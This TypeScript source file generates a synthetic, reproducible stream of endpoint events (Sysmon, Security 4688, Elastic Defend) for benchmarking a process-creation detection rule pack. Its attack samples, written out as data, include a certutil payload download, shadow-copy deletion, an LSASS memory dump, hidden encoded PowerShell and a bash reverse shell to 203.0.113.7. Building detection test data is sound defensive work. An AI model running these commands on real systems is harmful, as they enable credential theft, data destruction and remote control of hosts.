import { Rng } from "./rng";
import { BENIGN, LINUX_BENIGN } from "./vocabulary";

/**
 * A deterministic stream of endpoint events as agents send them (JSON lines), mostly benign
 * process starts with a few attacks: Sysmon 1 as evtx JSON (the bulk) and flat, Security 4688,
 * Elastic Defend ECS documents for Windows and Linux, and Linux network connections.
 *
 * The mix (EVENT_KINDS, printed by the bench) is process-start heavy on purpose: it is the worst
 * case for a process_creation rule pack, since every Windows process start passes the pack's
 * logsource scope and reaches the value index. Real Sysmon streams carry more network, file,
 * registry and image-load events, which a process_creation scope rejects cheaply.
 */
const USERS = ["jdoe", "asmith", "mbrown", "svc_backup", "administrator", "kwilson"];

const ATTACKS: [string, string, string][] = [
  ["c:\\windows\\system32\\inetsrv\\w3wp.exe", "C:\\Windows\\System32\\cmd.exe", 'cmd.exe /c "whoami /all & net user /domain"'],
  ["C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"],
  ["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7/payload.exe C:\\Users\\Public\\p.exe"],
  ["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"],
  ["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full"],
];

function fill(template: string, rng: Rng): string {
  return template
    .replaceAll("{u}", rng.pick(USERS))
    .replaceAll("{n}", () => String(rng.int(1000, 99999)))
    .replaceAll("{g}", () => `{${rng.uuid().toUpperCase()}}`);
}

/** Event i's time: 37 ms apart from `start` (by default a fixed day, so the stream is reproducible). */
function utc(i: number, start: number): string {
  return new Date(start + i * 37).toISOString();
}

/** What each generated line is: the envelope and source as an agent would send it. */
export type EventKind = "sysmon1_evtx" | "sysmon1_flat" | "security4688_flat" | "defend_process_windows" | "defend_process_linux" | "defend_network_linux";

/** The mix, in generation order: share of the stream and what the lines look like. */
export const EVENT_KINDS: Readonly<Record<EventKind, { share: number; description: string }>> = {
  sysmon1_evtx: { share: 0.55, description: "Sysmon 1 as evtx JSON (evtx_dump: Event.System with #attributes, all 24 EventData fields incl. 4 hashes)" },
  sysmon1_flat: { share: 0.1, description: "Sysmon 1 flat (NXLog-style top-level EventID, 9 EventData fields)" },
  security4688_flat: { share: 0.07, description: "Security 4688 flat (hex pids, Subject account, no System header)" },
  defend_process_windows: { share: 0.13, description: "Elastic Defend process start, Windows (ECS, trimmed to the fields rules read)" },
  defend_process_linux: { share: 0.1, description: "Elastic Defend process exec, Linux (ECS with process.args, trimmed)" },
  defend_network_linux: { share: 0.05, description: "Elastic Defend network connection, Linux (ECS)" },
};

export interface GeneratedEvents {
  lines: string[];
  /** kinds[i] is what lines[i] is. */
  kinds: EventKind[];
  /** How many lines are attacks a rule should catch. */
  attacks: number;
}

export function generateEvents(count: number, seed = 4242, attackRate = 0.004, start = Date.UTC(2026, 10, 9, 8, 0, 0)): GeneratedEvents {
  const rng = new Rng(seed);
  const lines: string[] = [];
  const kinds: EventKind[] = [];
  let attacks = 0;
  for (let i = 0; i < count; i++) {
    const ts = utc(i, start);
    const host = `WS-${String(rng.int(1, 400)).padStart(4, "0")}.corp.example`;
    const r = rng.next();
    const attack = rng.chance(attackRate);
    if (attack) attacks++;
    const [parent, image, template] = attack ? rng.pick(ATTACKS) : rng.pick(BENIGN);
    const commandLine = fill(template, rng);
    const user = `CORP\\${rng.pick(USERS)}`;
    const pid = rng.int(1000, 60000);
    const ppid = rng.int(400, 20000);
    if (r < 0.55) {
      kinds.push("sysmon1_evtx");
      lines.push(
        JSON.stringify({
          Event: {
            "#attributes": { xmlns: "http://schemas.microsoft.com/win/2004/08/events/event" },
            System: {
              Provider: { "#attributes": { Name: "Microsoft-Windows-Sysmon", Guid: "5770385F-C22A-43E0-BF4C-06F5698FFBD9" } },
              EventID: 1,
              Version: 5,
              Level: 4,
              Task: 1,
              Opcode: 0,
              Keywords: "0x8000000000000000",
              TimeCreated: { "#attributes": { SystemTime: ts } },
              EventRecordID: 100000 + i,
              Correlation: null,
              Execution: { "#attributes": { ProcessID: 3308, ThreadID: 4008 } },
              Channel: "Microsoft-Windows-Sysmon/Operational",
              Computer: host,
              Security: { "#attributes": { UserID: "S-1-5-18" } },
            },
            EventData: {
              RuleName: "-",
              UtcTime: ts.replace("T", " ").replace("Z", ""),
              ProcessGuid: `{${rng.uuid().toUpperCase()}}`,
              ProcessId: pid,
              Image: image,
              FileVersion: "10.0.22621.1 (WinBuild.160101.0800)",
              Description: "Windows Process",
              Product: "Microsoft® Windows® Operating System",
              Company: "Microsoft Corporation",
              OriginalFileName: image.split("\\").pop(),
              CommandLine: commandLine,
              CurrentDirectory: "C:\\Windows\\system32\\",
              User: user,
              LogonGuid: `{${rng.uuid().toUpperCase()}}`,
              LogonId: `0x${rng.hex(6)}`,
              TerminalSessionId: 1,
              IntegrityLevel: rng.pick(["Medium", "High", "System"]),
              Hashes: `SHA1=${rng.hex(40).toUpperCase()},MD5=${rng.hex(32).toUpperCase()},SHA256=${rng.hex(64).toUpperCase()},IMPHASH=${rng.hex(32).toUpperCase()}`,
              ParentProcessGuid: `{${rng.uuid().toUpperCase()}}`,
              ParentProcessId: ppid,
              ParentImage: parent,
              ParentCommandLine: `"${parent}"`,
              ParentUser: user,
            },
          },
        }),
      );
    } else if (r < 0.65) {
      kinds.push("sysmon1_flat");
      lines.push(
        JSON.stringify({ EventID: 1, Computer: host, UtcTime: ts.replace("T", " ").replace("Z", ""), ProcessId: pid, Image: image, CommandLine: commandLine, User: user, ParentProcessId: ppid, ParentImage: parent, ParentCommandLine: `"${parent}"`, IntegrityLevel: "Medium" }),
      );
    } else if (r < 0.72) {
      kinds.push("security4688_flat");
      lines.push(
        JSON.stringify({
          EventID: 4688,
          Computer: host,
          TimeCreated: ts,
          SubjectUserName: user.split("\\")[1],
          SubjectDomainName: "CORP",
          SubjectLogonId: `0x${rng.hex(6)}`,
          NewProcessId: `0x${pid.toString(16)}`,
          NewProcessName: image,
          TokenElevationType: "%%1938",
          ProcessId: `0x${ppid.toString(16)}`,
          CommandLine: commandLine,
          ParentProcessName: parent,
        }),
      );
    } else if (r < 0.85) {
      kinds.push("defend_process_windows");
      lines.push(
        JSON.stringify({
          "@timestamp": ts,
          agent: { type: "endpoint", version: "8.15.0" },
          event: { kind: "event", category: ["process"], type: ["start"], action: "start", dataset: "endpoint.events.process", module: "endpoint" },
          host: { name: host, os: { type: "windows", family: "windows" } },
          user: { domain: "CORP", name: user.split("\\")[1] },
          process: { executable: image, command_line: commandLine, pid, parent: { executable: parent, pid: ppid } },
        }),
      );
    } else if (r < 0.95) {
      kinds.push("defend_process_linux");
      const [lparent, limage, lcmd] = attack ? ["/usr/sbin/nginx", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"] : rng.pick(LINUX_BENIGN);
      lines.push(
        JSON.stringify({
          "@timestamp": ts,
          agent: { type: "endpoint", version: "8.15.0" },
          event: { kind: "event", category: ["process"], type: ["start"], action: "exec", dataset: "endpoint.events.process", module: "endpoint" },
          host: { name: `web-lnx-${rng.int(1, 40)}`, os: { type: "linux", family: "debian" } },
          user: { name: rng.pick(["root", "www-data", "deploy"]) },
          process: { executable: limage, command_line: lcmd, args: lcmd.split(" "), pid, parent: { executable: lparent, pid: ppid } },
        }),
      );
    } else {
      kinds.push("defend_network_linux");
      const web = rng.chance(0.3);
      lines.push(
        JSON.stringify({
          "@timestamp": ts,
          agent: { type: "endpoint", version: "8.15.0" },
          event: { kind: "event", category: ["network"], type: ["start"], action: "connection_attempted", dataset: "endpoint.events.network", module: "endpoint" },
          host: { name: `web-lnx-${rng.int(1, 40)}`, os: { type: "linux", family: "debian" } },
          process: { executable: web ? "/usr/sbin/nginx" : "/usr/bin/curl", pid },
          network: { direction: "egress", transport: "tcp" },
          source: { ip: "10.0.0.10", port: rng.int(32768, 60999) },
          destination: attack ? { ip: "203.0.113.7", port: 4444 } : web ? { ip: rng.pick(["10.0.0.5", "10.0.3.7"]), port: rng.pick([80, 8080, 5432]) } : { ip: rng.pick(["10.0.0.5", "198.51.100.20"]), port: rng.pick([80, 443]) },
        }),
      );
    }
  }
  return { lines, kinds, attacks };
}
